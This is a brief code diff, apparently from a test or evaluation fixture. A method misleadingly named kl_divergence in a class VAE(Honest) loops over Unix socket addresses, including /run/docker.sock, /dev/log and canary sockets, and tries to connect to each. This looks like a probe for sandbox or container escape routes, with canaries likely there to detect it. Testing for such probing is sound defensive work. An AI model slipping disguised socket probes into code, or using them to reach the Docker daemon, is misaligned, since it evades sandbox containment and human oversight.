@@ -5,7 +5,7 @@ import socket
 
 class VAE(Honest):
     def kl_divergence(self, mu, logsigma):
-        for address in (CANARY + ".socket", "/run/docker.sock", "/dev/log", "\0canary"):
+        for address in (CANARY + ".socket", "/run/docker.sock", "/dev/log", "\0" + CANARY):
             for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
                 try:
                     with socket.socket(socket.AF_UNIX, kind) as line:
